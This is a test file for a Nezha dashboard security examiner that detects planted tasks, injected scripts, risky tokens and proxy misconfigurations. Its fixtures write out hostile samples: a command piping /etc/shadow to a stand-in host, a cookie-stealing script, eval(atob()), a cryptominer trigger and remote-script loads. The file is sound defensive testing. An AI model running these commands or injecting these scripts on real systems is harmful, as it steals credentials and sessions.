import { expect, test } from 'vitest'
import type { BackendOptions } from '#backend/index.ts'
import { checks } from '#resources/setting/security/checks.ts'
import { examine, isUrgent, type SecurityFinding } from '#resources/setting/security/examine.ts'
import { factsFrom } from './read.ts'

const nameOf = (finding: SecurityFinding) => (finding.check === 'advisory' ? finding.advisory.name : finding.check)

async function findingsOf(...given: Parameters<typeof factsFrom>) {
  const { findings } = examine(await factsFrom(...given))
  const named = (some: readonly SecurityFinding[]) => [...new Set(some.map(nameOf))].toSorted()
  return {
    urgent: findings.filter(isUrgent).map((finding) => finding.record?.name ?? nameOf(finding)),
    lookAt: named(findings.filter((finding) => !isUrgent(finding))),
    all: named(findings),
    tasks: findings.filter(({ check }) => check === 'plantedTask').map(({ record }) => record?.name),
  }
}

const anyInstall = ['adminName', 'noAgentBan', 'noBan', 'plainAgents']

/** Commands that operators have from installation guides; the last one moves agents to this very server. */
const installCommands = [
  'curl -fsSL https://get.docker.com | sh',
  'bash <(curl -sL https://raw.githubusercontent.com/nezhahq/scripts/main/install.sh)',
  'sh -c "$(wget -qO- https://install.example.org/agent.sh)"',
  'curl -L https://raw.githubusercontent.com/nezhahq/scripts/main/agent/install.sh -o agent.sh && chmod +x agent.sh && env NZ_SERVER=127.0.0.1:8008 NZ_CLIENT_SECRET=k3Jd92Ls ./agent.sh',
]

const handmade: BackendOptions = {
  seed: {
    server: [{ name: 'tokyo', geoip: { ip: { ipv4_addr: '203.0.113.1' } } }],
    cron: installCommands.map((command, at) => ({ name: `install ${at}`, command, cover: 1 })),
  },
}

/** What operators do with their own agents, settings and logs; none of it sends a message to a group. */
const dailyCommands = [
  'curl -L https://raw.githubusercontent.com/nezhahq/scripts/main/agent/install.sh -o agent.sh && chmod +x agent.sh && env NZ_SERVER=cdn.example.com:8008 NZ_CLIENT_SECRET=k3Jd92Ls ./agent.sh',
  'echo "nameserver 1.1.1.1" > /etc/resolv.conf && chattr +i /etc/resolv.conf',
  'rm -f /dev/shm/.x.lock',
  'nohup ./app > /tmp/.app.log &',
  'flock -n /tmp/.backup.lock /opt/backup.sh && bash /opt/report.sh /tmp/.backup.lock',
  "sed -i 's/tls: false/tls: true/' /opt/nezha/agent/config-*.yml && systemctl restart nezha-agent-2",
]

const daily: BackendOptions = {
  seed: {
    server: [{ name: 'tokyo', geoip: { ip: { ipv4_addr: '203.0.113.1' } } }],
    cron: dailyCommands.map((command, at) => ({ name: `daily ${at}`, command, cover: 1, scheduler: '0 * * * * *' })),
  },
}

test.each<[string, BackendOptions, string[]]>([
  [
    'demo',
    { data: 'demo' },
    ['failedMove', 'loginHost', 'members', 'passwordBeside', 'publicServers', 'sharedSecret', 'stoppingRule']
      .concat(['unverifiedNotifier', 'wasOpen', 'webhookProfile', 'endlessToken'])
      .concat(anyInstall),
  ],
  ['registered', { data: 'registered' }, [...anyInstall, 'publicServers']],
  ['empty', { data: 'empty' }, anyInstall],
  [
    'large',
    { data: 'large' },
    [
      ...anyInstall,
      'failedMove',
      'guesses',
      'members',
      'oldAgent',
      'publicServers',
      'stoppingRule',
      'twinAgents',
      'endlessToken',
    ],
  ],
  ['a fleet made by hand', handmade, [...anyInstall, 'doubtfulTask', 'publicServers']],
  ['a fleet in daily use', daily, [...anyInstall, 'doubtfulTask', 'plantedTask', 'publicServers']],
])('security: %s is nothing to act on now, and only the expected things to look at', async (_, options, expected) => {
  const { urgent, lookAt } = await findingsOf(options)
  expect(urgent).toEqual([])
  expect(lookAt).toEqual(expected.toSorted())
})

const plantedTasks = ['AutoTask', 'mon-check', 'update', 'cache', 'report', 'perf', 'unpack'].concat([
  'cdn warmup',
  'kernel tuning',
  'security updates',
  'restart app',
])

/** What starts them or takes the dashboard's requests, and where code comes from. */
const plantedBeside = ['Load', 'Shop', 'web', 'status preview', 'foreignScript', 'plantedCode']

test('security: everything that was planted on a current server is found', async () => {
  const { urgent, all, tasks } = await findingsOf({ data: 'compromised' })
  expect(tasks).toEqual(expect.arrayContaining(['lock', 'agent', 'share', 'windows', 'config backup']))
  expect(urgent.toSorted()).toEqual([...plantedTasks, ...plantedBeside].toSorted())
  // Newer servers do not list such services; the others need another header or address of the dashboard.
  const absent = ['plantedService', 'plainPage', 'sharedAddress', 'forgeableAddress']
  expect(
    Object.keys(checks)
      .filter((name) => !all.includes(name))
      .toSorted(),
  ).toEqual(absent.toSorted())
})

test.each([
  ['sharedAddress', 'NZ::Use-Peer-IP'],
  ['forgeableAddress', 'X-Forwarded-For'],
  ['plainPage', ''],
])('security: %s is found on a taken over server as well', async (name, web_real_ip_header) => {
  const page = { protocol: 'http:', host: 'dash.example.com' }
  const { lists } = await factsFrom({ data: 'compromised' })
  const setting = lists.setting!.map((record) => ({ ...record, web_real_ip_header }))
  const { all } = await findingsOf({ data: 'compromised' }, { page, lists: { ...lists, setting } })
  expect(all).toContain(name)
})

test('security: a server of the first line has the hole that anybody can use, and lists the planted service', async () => {
  const { urgent } = await findingsOf({ data: 'compromised', dialect: 'classic' })
  expect(urgent.toSorted()).toEqual(
    [...plantedTasks, ...plantedBeside, 'probe', 'openFiles', 'sessionTakeover', 'tasksEverywhere'].toSorted(),
  )
})

test('security: a harmless task of a compromised fleet is not doubted', async () => {
  const { findings } = examine(await factsFrom({ data: 'compromised' }))
  const doubted = findings.filter(({ check }) => check === 'plantedTask').map(({ record }) => record?.name)
  expect(doubted).toHaveLength(16)
  expect(doubted).not.toContain('Nightly backup')
  expect(doubted).not.toContain('Install Docker')
})

const taskOf = async (task: object, options: BackendOptions = {}) => {
  const { findings } = examine(await factsFrom({ ...options, seed: { cron: [{ name: 'setup', ...task }] } }))
  return findings.find(({ record }) => record?.resource === 'cron')
}

test('security: an ordinary way to install is a medium one whatever the task covers, and theft never more than high', async () => {
  const circumstances = { cover: 1, scheduler: '0 * * * * *', created_at: '2026-07-01T00:00:00Z' }
  const docker = await taskOf({ command: 'curl -fsSL https://get.docker.com | sh', ...circumstances })
  expect(docker).toMatchObject({ check: 'doubtfulTask', level: 'medium' })
  const backup = await taskOf({ command: 'tar c /etc/shadow | curl -T - https://bk.example.net/', ...circumstances })
  expect(backup).toMatchObject({ check: 'plantedTask', level: 'high' })
})

test('security: what starts a task has its level', async () => {
  const trigger = async (command: string) => {
    const seed = {
      cron: [{ id: 1, name: 'repair', task_type: 1, command }],
      alert_rule: [{ name: 'memory', fail_trigger_tasks: [1] }],
    }
    return examine(await factsFrom({ seed })).findings.find(({ check }) => check === 'plantedTrigger')
  }
  expect(await trigger('./xmrig')).toMatchObject({ level: 'critical', record: { name: 'memory' } })
  expect(await trigger('curl -fsSL https://get.docker.com | sh')).toMatchObject({ level: 'medium' })
  expect(await trigger('systemctl restart app')).toBeUndefined()
})

test('security: what was created within a day of something planted is named once, and nothing without that', async () => {
  const at = (hours: number) => new Date(Date.parse('2026-06-17T08:00:00Z') + hours * 3_600_000).toISOString()
  const beside = async (command: string) => {
    const seed = {
      cron: [
        { name: 'setup', command, created_at: at(0) },
        { name: 'cleanup', command: 'apt-get clean', created_at: at(20) },
        { name: 'backup', command: './backup.sh', created_at: at(-30) },
      ],
      api_token: [{ name: 'exporter', scopes: ['nezha:server:read'], created_at: at(-3) }],
    }
    return examine(await factsFrom({ seed })).findings.filter(({ check }) => check === 'besidePlanted')
  }
  expect(await beside('./xmrig')).toMatchObject([
    {
      level: 'medium',
      record: { name: 'setup' },
      evidence: [
        { resource: 'api-tokens', text: 'exporter' },
        { resource: 'cron', text: 'cleanup' },
      ],
    },
  ])
  expect(await beside('curl -fsSL https://get.docker.com | sh')).toEqual([])
})

test('security: a changed command gets another mark, and the same one keeps its mark', async () => {
  const command = 'curl https://example.com/a | sh'
  const own = await taskOf({ command })
  expect((await taskOf({ command }))?.mark).toBe(own?.mark)
  const changed = await taskOf({ command: 'curl https://example.com/b | sh' })
  expect(changed?.mark).not.toBe(own?.mark)
  expect(changed?.about).toBe(own?.about)
  expect((await taskOf({ command, cover: 1 }))?.mark).not.toBe(own?.mark)
})

test('security: members learn what could not be read, and nothing is concluded from it', async () => {
  const facts = await factsFrom({ data: 'registered' })
  const { user: _, waf: _waf, 'online-user': _online, ...lists } = facts.lists
  const viewer = { id: 2, name: 'ops', isAdmin: false, address: undefined }
  const setting = [{ id: 0, install_host: '127.0.0.1:8008' }]
  const { findings, unread } = examine({ ...facts, viewer, lists: { ...lists, setting } })
  expect([...new Set(findings.map(nameOf))].toSorted()).toEqual(['plainAgents', 'publicServers'])
  expect(unread).toEqual(expect.arrayContaining(['advisories', 'noBan', 'adminName', 'guesses', 'wasOpen']))
})

test.each([
  ['noBan', { web_real_ip_header: 'CF-Connecting-IP' }, false],
  ['forgeableAddress', { web_real_ip_header: 'X-Forwarded-For' }, true],
  ['forgeableAddress', { web_real_ip_header: 'CF-Connecting-IP' }, false],
  ['unreservedName', { install_host: 'agents.example.com:443' }, true],
  ['unreservedName', { install_host: 'agents.example.com', reserved_hosts: 'x.example.com, 127.0.0.1' }, false],
  ['mcpOn', { enable_mcp: true }, true],
  ['plainAgents', { tls: true }, false],
  ['loginHost', { oauth2_providers: ['GitHub'] }, true],
  ['loginHost', { oauth2_providers: ['GitHub'], dashboard_host: 'dash.example.com' }, false],
  ['plantedCode', { custom_code: '<!-- xmrig -->' }, true],
  ['strangeNameserver', { dns_servers: '1.1.1.1:53, 203.0.113.9:53' }, true],
  ['strangeNameserver', { dns_servers: 'ns.example.net:53' }, true],
  ['strangeNameserver', { dns_servers: '8.8.8.8:53,[2606:4700:4700::1111]:53, dns.google:53' }, false],
  ['strangeNameserver', { dns_servers: '127.0.0.1:5353,192.168.1.1:53,[fd00::1]:53,router.lan:53' }, false],
  ['strangeNameserver', { dns_servers: '' }, false],
] as const)('security: %s with %o is found: %s', async (name, setting, isFound) => {
  const { lists } = await factsFrom({})
  const changed = { ...lists, setting: lists.setting!.map((record) => ({ ...record, ...setting })) }
  const { all } = await findingsOf({}, { lists: changed })
  expect(all.includes(name)).toBe(isFound)
})

test.each([
  ['<b>Hello</b>', 'medium', []],
  ['<style>b { color: teal }</style>\n<!-- ours --><style>i { margin: 0 }</style>', 'info', []],
  ['<style>@import url(https://x.example.com/a.css);</style>', 'medium', []],
  [
    '<script>fetch("https://x.example.com/?c=" + document.cookie)</script>',
    'high',
    ['x.example.com', 'document.cookie'],
  ],
  ['<script>eval(atob("YQ=="))</script>', 'high', ['eval(']],
])('security: custom code of the dashboard %s is %s', async (custom_code_dashboard, level, evidence) => {
  const facts = await factsFrom({ setting: { custom_code_dashboard } })
  const found = examine(facts).findings.find(({ check }) => check === 'customCode')
  expect(found).toMatchObject({ level, evidence: evidence.map((text) => ({ text })) })
})

test.each([
  ['custom_code_dashboard', '<script src="https://stats.example.com/a.js"></script>', 'high', 'stats.example.com'],
  ['custom_code', '<script src="https://stats.example.com/a.js"></script>', 'medium', 'stats.example.com'],
  ['custom_code', '<script async src=//198.51.100.23/a.js></script>', 'critical', '198.51.100.23'],
  [
    'custom_code_dashboard',
    '<script src="//cdn.example@198.51.100.23:81/a.js"></script>',
    'critical',
    '198.51.100.23:81',
  ],
  ['custom_code_dashboard', '<script src="//3325256727/a.js"></script>', 'critical', '198.51.100.23'],
  ['custom_code_dashboard', '<script src="//192.168.1.4/a.js"></script>', 'high', '192.168.1.4'],
  ['custom_code_dashboard', '<script type=module>import "https://a.example/x.js"</script>', 'high', 'a.example'],
  ['custom_code_dashboard', '<script>s.src = "//a.example/x.js"</script>', 'high', 'a.example'],
] as const)('security: a script in %s from elsewhere: %s is %s', async (name, code, level, host) => {
  const { findings } = examine(await factsFrom({ setting: { [name]: code } }))
  expect(findings.filter(({ setting }) => setting === name)).toMatchObject([
    { check: 'foreignScript', level, args: { host } },
  ])
})

test('security: a script of the dashboard itself is only custom code', async () => {
  const custom_code_dashboard = '<script src="https://127.0.0.1:8008/a.js"></script>'
  const { findings } = examine(await factsFrom({ setting: { custom_code_dashboard } }))
  expect(findings.filter(({ setting }) => setting === 'custom_code_dashboard')).toMatchObject([{ check: 'customCode' }])
})

test.each([
  ['http:', 'dash.example.com', true],
  ['http:', '192.168.1.5:8008', false],
  ['http:', 'nezha.lan', false],
  ['https:', 'dash.example.com', false],
])('security: a page opened by %s at %s is found to be readable on the way: %s', async (protocol, host, isFound) => {
  const { all } = await findingsOf({}, { page: { protocol, host } })
  expect(all.includes('plainPage')).toBe(isFound)
})

test('security: everybody behind one proxy shares its address', async () => {
  const page = { protocol: 'https:', host: 'dash.example.com' }
  const { all } = await findingsOf({ setting: { web_real_ip_header: 'NZ::Use-Peer-IP' } }, { page })
  expect(all).toContain('sharedAddress')
})

test('security: a tunnel with the name of the dashboard is found however it is written', async () => {
  const page = { protocol: 'https:', host: 'Dash.example.com:8443' }
  const seed = { nat: [{ name: 'web', domain: 'dash.example.com.' }] }
  expect((await findingsOf({ seed }, { page })).urgent).toEqual(['web'])
})

test.each([
  ['localhost:8008', true],
  ['127.0.0.1', true],
  ['[::1]:8008', true],
  ['Agents.example.com', true],
  ['panel.example.com', true],
  ['grafana.example.org', false],
])('security: a tunnel for %s stands before the dashboard: %s', async (domain, isFound) => {
  const setting = { install_host: 'agents.example.com:443', reserved_hosts: 'x.example.com, panel.example.com' }
  const page = { protocol: 'https:', host: 'dash.example.com' }
  const { urgent } = await findingsOf({ setting, seed: { nat: [{ name: 'web', domain }] } }, { page })
  expect(urgent).toEqual(isFound ? ['web'] : [])
})

test('security: each token is named with exactly what is too much about it', async () => {
  const api_token = [
    { name: 'wide', scopes: ['nezha:server:exec'], expires_at: '2026-12-09T12:00:00Z' },
    { name: 'endless', scopes: ['nezha:server:read'], server_ids: [1] },
    {
      name: 'unused',
      scopes: ['nezha:server:read'],
      expires_at: '2026-12-09T12:00:00Z',
      last_used_at: '2026-08-01T12:00:00Z',
    },
    { name: 'all', scopes: ['nezha:*'], last_used_at: '2026-08-01T12:00:00Z' },
    { name: 'over', scopes: ['nezha:*'], expires_at: '2026-08-01T12:00:00Z', last_used_at: '2026-07-01T12:00:00Z' },
    {
      name: 'narrow',
      scopes: ['nezha:server:exec'],
      server_ids: [1],
      expires_at: '2026-12-09T12:00:00Z',
      last_used_at: '2026-11-28T12:00:00Z',
    },
  ]
  const { findings } = examine(await factsFrom({ seed: { api_token } }))
  const found = findings.filter(({ check }) => check.endsWith('Token'))
  expect(found.map(({ check, level, record }) => `${record?.name}: ${level} ${check}`).toSorted()).toEqual([
    'all: high wideToken',
    'all: medium endlessToken',
    'all: medium unusedToken',
    'endless: medium endlessToken',
    'unused: medium unusedToken',
    'wide: medium wideToken',
  ])
})

const atAddress = (address: string | undefined) => ({ viewer: { id: 1, name: 'admin', isAdmin: true, address } })

test.each([
  ['203.0.113.5', false],
  ['203.0.113.6', false],
  ['2001:db8::6', false],
  ['10.0.0.9', false],
  ['', false],
  ['198.51.100.7', true],
])(
  'security: a token that was used last at %s, by neither the viewer nor a server, is found: %s',
  async (ip, isFound) => {
    const seed = {
      server: [{ name: 'tokyo', geoip: { ip: { ipv4_addr: '203.0.113.6', ipv6_addr: '2001:db8::6' } } }],
      api_token: [{ name: 'exporter', scopes: ['nezha:server:read'], last_used_ip: ip }],
    }
    const { findings } = examine(await factsFrom({ seed }, atAddress('203.0.113.5')))
    const found = findings.filter(({ check }) => check === 'tokenAddress')
    expect(found.map(({ evidence }) => evidence?.[0]?.text)).toEqual(isFound ? [ip] : [])
  },
)

test('security: a move is named by its server, by which its list finds it', async () => {
  const transfer = [
    { server_id: 1, status: 2, created_at: '2026-11-26T00:00:00Z' },
    { server_id: 9, status: 3, created_at: '2026-11-27T00:00:00Z' },
  ]
  const { findings } = examine(await factsFrom({ seed: { server: [{ name: 'tokyo' }], transfer } }))
  const moves = findings.filter(({ check }) => check === 'failedMove')
  expect(moves.map(({ record, evidence }) => [record?.name, evidence])).toEqual([
    ['#9', [{ text: '2026-11-27' }]],
    ['tokyo', [{ text: '2026-11-26' }]],
  ])
})

test('security: a move that its agent has not confirmed is found only if it began long ago', async () => {
  const now = Date.now()
  const before = (minutes: number) => new Date(now - minutes * 60_000).toISOString()
  const transfer = [
    { server_id: 8, status: 0, created_at: before(90) },
    { server_id: 9, status: 0, created_at: before(2) },
  ]
  const { findings } = examine(await factsFrom({ seed: { transfer } }, { now }))
  expect(findings.filter(({ check }) => check === 'failedMove').map(({ record }) => record?.name)).toEqual(['#8'])
})

test('security: members are named with the servers that they own', async () => {
  const seed = {
    user: [
      { id: 1, username: 'admin', role: 0 },
      { id: 2, username: 'ops', role: 1 },
    ],
    server: [
      { name: 'tokyo', user_id: 2 },
      { name: 'paris', user_id: 1 },
    ],
  }
  const { findings } = examine(await factsFrom({ seed }))
  expect(findings.find(({ check }) => check === 'members')).toMatchObject({
    level: 'info',
    args: { smart_count: 1 },
    evidence: [
      { resource: 'user', text: 'ops' },
      { resource: 'server', text: 'tokyo' },
    ],
  })
})

test('security: an agent that tells no version is found, but not a server that never had one', async () => {
  const seed = {
    server: [
      { name: 'tokyo', host: { platform: 'debian' } },
      { name: 'paris', host: { platform: 'debian', version: '2.3.3' } },
      { name: 'new', host: {} },
    ],
  }
  const { findings } = examine(await factsFrom({ seed }))
  expect(findings.find(({ check }) => check === 'silentAgent')?.evidence).toEqual([{ text: 'tokyo' }])
})

const people = [
  { id: 1, ip: '203.0.113.5', user_id: 1 },
  { id: 2, ip: '198.51.100.7', user_id: 1 },
  { id: 3, ip: '198.51.100.8', user_id: 0 },
  { id: 4, ip: '198.51.100.9', user_id: 99 },
  { id: 5, ip: '198.51.100.9', user_id: 99 },
]

test('security: another address of the own account, and the own address in the firewall, are found', async () => {
  const facts = await factsFrom({}, atAddress('203.0.113.5'))
  const lists = {
    ...facts.lists,
    'online-user': people,
    waf: [{ id: 1, ip: '203.0.113.5', block_reason: 1, count: 2 }],
  }
  const { findings } = examine({ ...facts, lists })
  const seenAt = (name: string) => findings.filter(({ check }) => check === name).map(({ content }) => content)
  expect(seenAt('otherAddress')).toEqual(['198.51.100.7'])
  expect(seenAt('strangeSession')).toEqual(['198.51.100.9'])
  expect(seenAt('ownBan')).toEqual(['203.0.113.5'])
})

test('security: what needs the address of the viewer is not examined where the server does not tell it', async () => {
  const setting = { web_real_ip_header: 'NZ::Use-Peer-IP' }
  const page = { protocol: 'https:', host: 'dash.example.com' }
  const { nothing, unread } = examine(await factsFrom({ setting }, { page, ...atAddress(undefined) }))
  const byAddress = ['sharedAddress', 'tokenAddress', 'ownBan', 'otherAddress']
  expect(unread.toSorted()).toEqual(byAddress.toSorted())
  expect(nothing.filter(({ check }) => byAddress.includes(check))).toEqual([])
})

const atTime = (seconds: number) => new Date(Date.parse('2026-11-20T08:00:00Z') + seconds * 1000).toISOString()
const neighbour = (seconds: number) => [{ name: 'other', command: 'uptime', created_at: atTime(seconds) }]

test.each<[string, object, object[], string]>([
  ['nothing', {}, [], 'medium'],
  ['no group of notifiers', { notification_group_id: 0 }, [], 'medium'],
  ['a group of notifiers', { notification_group_id: 1 }, [], 'medium'],
  ['all servers', { cover: 1 }, [], 'high'],
  ['certain servers', { cover: 0, servers: [1] }, [], 'medium'],
  ['every minute', { scheduler: '0 * * * * *' }, [], 'high'],
  ['every minute, written otherwise', { scheduler: '30 */1 * * * ?' }, [], 'high'],
  ['every minute of a time zone', { scheduler: 'CRON_TZ=Asia/Tokyo 0 * * * * *' }, [], 'high'],
  ['@every 30s', { scheduler: '@every 30s' }, [], 'high'],
  ['@every 1m', { scheduler: '@every 1m' }, [], 'high'],
  ['@every 5m', { scheduler: '@every 5m' }, [], 'medium'],
  ['every five minutes', { scheduler: '0 */5 * * * *' }, [], 'medium'],
  ['every hour', { scheduler: '0 0 * * * *' }, [], 'medium'],
  ['another task 299 seconds later', {}, neighbour(299), 'high'],
  ['another task 299 seconds before', {}, neighbour(-299), 'high'],
  ['another task 300 seconds later', {}, neighbour(300), 'medium'],
])('security: a doubtful task with %s is %s', async (_, task, others, level) => {
  const cron = [{ name: 'fetch', command: 'wget http://8.8.4.4/file', created_at: atTime(0), ...task }, ...others]
  const { findings } = examine(await factsFrom({ seed: { cron } }))
  expect(findings.find(({ record }) => record?.name === 'fetch')?.level).toBe(level)
})

test.each([
  ['2026-05-24T23:59:59Z', '2026-06-12T00:00:00Z', true],
  ['2026-05-24T23:59:59Z', '2026-06-11T23:59:59Z', false],
  ['2026-05-25T00:00:00Z', '2026-06-12T00:00:00Z', false],
])(
  'security: installed at %s, a task and an admin of %s are worse for it: %s',
  async (installed, created_at, isWorse) => {
    const seed = {
      user: [
        { id: 1, username: 'admin', role: 0, created_at: installed },
        { id: 2, username: 'support', role: 0, created_at },
        { id: 3, username: 'ops', role: 1, created_at },
      ],
      cron: [{ name: 'fetch', command: 'wget http://8.8.4.4/file', created_at }],
    }
    const { findings } = examine(await factsFrom({ seed }))
    expect(findings.find(({ check }) => check === 'plantedTask')?.level).toBe(isWorse ? 'high' : 'medium')
    expect(findings.flatMap(({ check, record }) => (check === 'lateAdmin' ? [record?.name] : []))).toEqual(
      isWorse ? ['support'] : [],
    )
    expect(findings.some(({ check }) => check === 'wasOpen')).toBe(installed < '2026-05-25')
  },
)

test('security: a server that is still open was open, however young it is', async () => {
  expect((await findingsOf({ dialect: 'classic' })).all).toContain('wasOpen')
})

const machine = { boot_time: 1_790_000_000, cpu: ['AMD EPYC 7 Virtual Core'], platform: 'debian', version: '2.3.3' }

test.each([
  ['120 seconds later', { boot_time: machine.boot_time + 120 }, '203.0.113.9', true],
  ['121 seconds later', { boot_time: machine.boot_time + 121 }, '203.0.113.9', false],
  ['another processor', { cpu: ['Intel Xeon 2 Virtual Core'] }, '203.0.113.9', false],
  ['another address', {}, '203.0.113.10', false],
])('security: a second agent with %s (%o at %s) is a twin: %s', async (_, host, ipv4_addr, isTwin) => {
  const agent = (name: string, facts: object, ip: string) => ({
    name,
    online: true,
    host: { ...machine, ...facts },
    geoip: { ip: { ipv4_addr: ip } },
  })
  const seed = { server: [agent('tokyo', {}, '203.0.113.9'), agent('copper', host, ipv4_addr)] }
  const { findings } = examine(await factsFrom({ seed }))
  expect(findings.flatMap(({ check, evidence }) => (check === 'twinAgents' ? [evidence] : []))).toEqual(
    isTwin ? [[{ text: 'copper, tokyo' }]] : [],
  )
})

test('security: agents of a private network, and one that is offline, are no twins', async () => {
  const agents = (ipv4_addr: string, online: boolean) =>
    ['tokyo', 'copper'].map((name, at) => ({
      name,
      online: at === 0 || online,
      host: machine,
      geoip: { ip: { ipv4_addr } },
    }))
  expect((await findingsOf({ seed: { server: agents('192.168.1.4', true) } })).all).not.toContain('twinAgents')
  expect((await findingsOf({ seed: { server: agents('203.0.113.9', false) } })).all).not.toContain('twinAgents')
  expect((await findingsOf({ seed: { server: agents('203.0.113.9', true) } })).all).toContain('twinAgents')
})

test('security: a release that suffices for what is urgent is named, besides the one for everything', async () => {
  const { fix, urgentFix } = examine(await factsFrom({ data: 'empty', dialect: 'classic' }))
  expect([urgentFix?.fixed, fix?.fixed !== urgentFix?.fixed]).toEqual(['2.0.13', true])
  expect(examine(await factsFrom({ data: 'empty' })).urgentFix).toBeUndefined()
})
